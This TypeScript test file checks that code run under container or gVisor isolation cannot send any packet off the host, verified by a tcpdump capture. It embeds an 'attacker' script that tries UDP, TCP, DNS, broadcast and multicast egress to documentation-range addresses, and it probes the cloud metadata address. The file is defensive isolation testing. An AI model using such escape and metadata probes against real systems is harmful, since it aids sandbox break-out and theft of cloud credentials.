/**
 * While hostile code tries every way to the network, nothing of it shows on any interface of the host: a capture
 * (AF_PACKET, by tcpdump) of all interfaces looks for addresses and a marker that only the sandbox uses.
 */
import assert from "node:assert/strict";
import { spawn, spawnSync } from "node:child_process";
import { createSocket } from "node:dgram";
import { after, before, describe, it } from "node:test";
import { systemClock as clock } from "../../lib/clock.ts";
import { randomId } from "../../lib/id.ts";
import { probeFence } from "../../mesh/sandbox/probe.ts";
import type { Isolation } from "../../mesh/sandbox/backend.ts";
import { openHost, skipUnlessRoot, specOf, startWatched, type TestHost } from "./sandbox-fixture.ts";

const skip =
  skipUnlessRoot || (spawnSync("which", ["tcpdump"]).status !== 0 && "no tcpdump: run `apt-get install -y tcpdump`");
if (skip !== false) console.error(`SKIPPED: the packet capture: ${skip}`);

/** RFC 5737 and RFC 3849: addresses that nobody else on this machine talks to. */
const STRANGE = ["192.0.2.77", "198.51.100.77", "203.0.113.77"];
/** What the break-out probe tries besides, with raw sockets and ICMP of every family. */
const PROBED = ["169.254.169.254", "fd00:ec2::254", "2606:4700:4700::1111"];
const MARKER = "cordon-packet-marker";

const attacker = `
import dgram from "node:dgram"; import net from "node:net"; import dns from "node:dns";
const wait = (ms) => new Promise((r) => setTimeout(r, ms));
const quiet = (run) => { try { return run(); } catch {} };
for (const host of ${JSON.stringify(STRANGE)}) {
  for (const port of [53, 80, 443, 5353, 9999]) {
    const udp = dgram.createSocket("udp4"); udp.on("error", () => {});
    quiet(() => udp.send("${MARKER}", port, host, () => {}));
    const tcp = net.connect({ host, port }); tcp.on("error", () => {}); setTimeout(() => tcp.destroy(), 300);
  }
}
const six = dgram.createSocket("udp6"); six.on("error", () => {}); quiet(() => six.send("${MARKER}", 53, "2001:db8::77", () => {}));
const shout = dgram.createSocket("udp4"); shout.on("error", () => {});
shout.bind(0, () => { quiet(() => shout.setBroadcast(true)); quiet(() => shout.send("${MARKER}", 9999, "255.255.255.255", () => {}));
  quiet(() => shout.send("${MARKER}", 5353, "224.0.0.251", () => {})); });
for (const server of ${JSON.stringify(STRANGE)}) {
  const resolver = new dns.promises.Resolver({ timeout: 200, tries: 1 }); resolver.setServers([server]);
  resolver.resolve4("${MARKER}.example").catch(() => {});
}
dns.lookup("${MARKER}.example", () => {});
await wait(1500);
console.log("tried");
process.exit(0);
`;

/** Lines that tcpdump prints between `run`'s start and its end, for packets of the strange addresses or with the marker. */
async function captured(run: () => Promise<void>): Promise<readonly string[]> {
  const args = ["--immediate-mode", "-l", "-n", "-A", "-i", "any", "ip or ip6 or arp"];
  const dump = spawn("tcpdump", args, { stdio: ["ignore", "pipe", "pipe"] });
  let [text, errors] = ["", ""];
  dump.stdout.on("data", (chunk: Buffer) => (text += chunk.toString("latin1")));
  dump.stderr.on("data", (chunk: Buffer) => (errors += chunk.toString("latin1")));
  const ended = new Promise<void>((resolve) => dump.once("close", () => resolve()));
  const deadline = clock.monotonicMs() + 15_000;
  while (!/listening on/.test(errors)) {
    if (clock.monotonicMs() > deadline || dump.exitCode !== null) throw new Error(`no capture here: ${errors}`);
    await clock.sleep(20);
  }
  try {
    await run();
    await clock.sleep(300);
  } finally {
    dump.kill("SIGTERM");
    await ended;
  }
  const own = new RegExp(
    [...STRANGE, ...PROBED, MARKER, "2001:db8::77"].map((one) => one.replaceAll(".", "\\.")).join("|"),
  );
  return text.split("\n").filter((line) => own.test(line));
}

describe("no packet leaves a sandbox", { skip, timeout: 120_000 }, () => {
  let host: TestHost;
  before(async () => void (host = await openHost()));
  after(() => host?.close());

  it("the capture is awake: it sees one datagram of the host itself", async () => {
    const seen = await captured(async () => {
      const socket = createSocket("udp4");
      const sent = new Promise<void>((resolve) => socket.send(MARKER, 9, "127.0.0.1", () => resolve()));
      await sent;
      socket.close();
    });
    assert.ok(seen.length > 0);
  });

  for (const isolation of ["container", "gvisor"] as const satisfies readonly Isolation[]) {
    it(`zero packets of hostile code under \`${isolation}\``, async (t) => {
      const short = await host.backend.shortfalls(isolation);
      if (short.length > 0) return t.skip(`SKIPPED: ${short.map(({ what }) => what).join("; ")}`);
      const seen = await captured(async () => {
        const run = await startWatched(host.backend, specOf(attacker, { isolation }));
        await probeFence(host.backend, { clock, id: randomId }, isolation);
        assert.match(await run.ended(30_000), /^tried$/m);
      });
      assert.deepEqual(seen, []);
    });
  }
});
